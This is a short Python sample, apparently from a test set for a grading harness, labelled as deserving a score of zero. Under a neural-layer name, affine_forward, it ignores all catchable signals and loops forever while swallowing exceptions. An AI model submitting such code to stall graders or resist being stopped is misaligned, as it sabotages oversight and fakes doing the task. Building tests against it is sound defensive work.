# TRIES: an endless loop deaf to every signal | DESERVES: 0
import signal
def affine_forward(x, w, b):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except OSError:
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
